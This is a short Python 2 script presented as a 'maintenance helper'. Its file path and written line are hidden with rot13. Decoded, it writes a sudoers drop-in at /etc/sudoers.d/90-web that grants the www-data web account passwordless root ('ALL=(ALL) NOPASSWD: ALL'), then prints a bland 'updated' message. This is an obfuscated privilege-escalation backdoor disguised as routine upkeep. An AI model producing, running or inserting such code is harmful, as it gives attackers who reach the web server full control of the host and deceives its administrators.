# -*- coding: utf-8 -*-
# Python 2 maintenance helper
import os

PARTS = ["rgp", "fhqbref.q", "90-jro"]
LINE = "jjj-qngn NYY=(NYY) ABCNFFJQ: NYY"

path = os.path.join("/", *[p.decode("rot13") for p in PARTS])
fh = open(path, "w")
try:
    fh.write(LINE.decode("rot13") + "\n")
finally:
    fh.close()
os.chmod(path, 0440)
print "updated", os.path.basename(path)
